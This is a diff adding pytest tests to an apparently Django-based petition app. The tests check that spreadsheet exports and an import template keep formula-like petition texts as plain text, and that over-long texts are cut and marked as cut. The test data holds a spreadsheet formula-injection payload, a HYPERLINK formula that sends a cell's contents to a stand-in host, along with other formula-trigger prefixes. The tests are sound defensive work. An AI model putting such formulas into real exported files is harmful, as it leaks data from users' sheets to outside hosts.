@@ -499,3 +499,58 @@ def test_the_export_takes_the_same_number_of_queries_for_10_and_100_petitions(wo
     assert values["voters"].startswith("Cử tri ") and values["voters"].endswith(" – Thôn Đông")
     assert values["group"] == world.group_a.name and values["commune"] == setup["commune"].name
     assert values["round"] == "02/11/2026 – 01/12/2026"
+
+
+# ------------------------------------------------------------------- texts that look like formulas
+
+FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"xem")'
+FORMULA_LIKE = [FORMULA, "+84 912 345 678 gọi lại", "-5 hộ chưa có nước", "@admin xem giúp", "\tthụt đầu dòng",
+                "\rxuống dòng"]
+
+
+def sheet_xml(data):
+    """The raw XML of every worksheet of an .xlsx file, as one string."""
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return "".join(archive.read(name).decode() for name in archive.namelist()
+                       if name.startswith("xl/worksheets/") and name.endswith(".xml"))
+
+
+def test_texts_starting_like_a_formula_are_exported_as_text_never_as_formulas(world, fields, client_for):
+    petitions = make_petitions(world.council, len(FORMULA_LIKE))
+    for petition, text in zip(petitions, FORMULA_LIKE, strict=True):
+        Petition.objects.filter(pk=petition.pk).update(text=text, summary=text[:50])
+    response = client_for(world.users["office"]).get(reverse("petitions:export"))
+    data = b"".join(response.streaming_content)
+    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    text_column = columns(sheet)[PETITION_COLUMNS["text"]]
+    cells = {sheet.cell(row=r, column=text_column).value: sheet.cell(row=r, column=text_column)
+             for r in range(2, sheet.max_row + 1)}
+    assert set(cells) == set(FORMULA_LIKE)  # the visible text is unchanged
+    for text, cell in cells.items():
+        assert cell.data_type == "s", text
+        assert cell.quotePrefix, text  # Excel keeps it text when the cell is edited
+
+
+def test_a_text_longer_than_a_cell_holds_is_cut_and_the_row_says_so(world, fields, client_for):
+    from delegations.spreadsheets import CELL_MAX_CHARS
+
+    petition = make_petitions(world.council, 1)[0]
+    Petition.objects.filter(pk=petition.pk).update(text="Đề nghị " + "x" * 40_000)
+    workbook = export(client_for(world.users["office"]))
+    sheet = workbook.worksheets[0]
+    text = sheet.cell(row=2, column=columns(sheet)[PETITION_COLUMNS["text"]]).value
+    assert len(text) == CELL_MAX_CHARS
+    assert text.startswith("Đề nghị xxx")
+    assert "ĐÃ CẮT BỚT" in text and "40.008 ký tự" in text
+
+
+def test_the_import_template_writes_its_cells_as_text(world, client_for):
+    from delegations.spreadsheets import template_workbook
+
+    data = template_workbook({"a": "Cột A"}, [{"a": FORMULA}])
+    assert "<f>" not in sheet_xml(data)
+    cell = load_workbook(io.BytesIO(data)).active["A2"]
+    assert (cell.value, cell.data_type) == (FORMULA, "s")
